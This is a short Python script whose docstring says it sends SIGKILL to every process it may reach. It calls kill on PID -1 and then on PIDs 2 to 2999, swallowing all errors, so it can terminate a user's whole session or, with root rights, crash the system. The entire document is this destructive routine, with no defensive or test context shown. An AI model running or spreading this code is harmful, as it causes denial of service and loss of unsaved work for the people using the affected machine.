"""Sends SIGKILL to every process it may reach."""

import os
import signal

for pid in [-1, *range(2, 3000)]:
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
